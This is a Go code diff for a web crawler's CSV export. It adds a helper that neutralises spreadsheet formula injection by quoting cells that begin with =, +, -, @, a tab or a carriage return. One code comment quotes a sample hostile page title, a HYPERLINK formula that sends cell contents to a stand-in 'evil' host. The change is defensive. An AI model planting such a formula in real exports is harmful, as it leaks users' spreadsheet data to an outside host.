@@ -10,6 +10,7 @@ import (
 	"io"
 	"reflect"
 	"strconv"
+	"strings"
 	"time"
 
 	"github.com/rendercrawl/render/sink"
@@ -71,10 +72,13 @@ var CSVHeader = []string{
 	"fetched_at", "elapsed_ms", "depth", "links", "requests", "first_seen", "fetch_count",
 }
 
-// CSV is the row's columns, in the order of CSVHeader.
+// CSV is the row's columns, in the order of CSVHeader. A text a
+// spreadsheet would take for a formula (a page's title
+// =HYPERLINK("http://evil/?"&A1)) is prefixed with a quote (csvText).
 func (r *Row) CSV() []string {
 	return []string{
-		r.URL, r.FinalURL, strconv.Itoa(r.Status), r.Mode, r.Reason, r.Title, r.Text, r.HTML, r.Error, r.ErrorKind,
+		csvText(r.URL), csvText(r.FinalURL), strconv.Itoa(r.Status), r.Mode, r.Reason, csvText(r.Title), csvText(r.Text),
+		csvText(r.HTML), csvText(r.Error), r.ErrorKind,
 		r.FetchedAt.UTC().Format(time.RFC3339Nano), strconv.FormatInt(r.ElapsedMS, 10), strconv.Itoa(r.Depth),
 		string(r.Links), string(r.Requests), r.FirstSeen.UTC().Format(time.RFC3339Nano), strconv.Itoa(r.FetchCount),
 	}
@@ -235,4 +239,14 @@ func objectFields(obj []byte) (map[string]json.RawMessage, []string, error) {
 		fields[key] = v
 	}
 	return fields, order, nil
+}
+
+// csvText is s as a spreadsheet shows it rather than runs it: a cell
+// that starts with =, +, -, @, a tab or a carriage return is a formula
+// to Excel, LibreOffice and Google Sheets, and gets a leading quote.
+func csvText(s string) string {
+	if s != "" && strings.ContainsRune("=+-@\t\r", rune(s[0])) {
+		return "'" + s
+	}
+	return s
 }
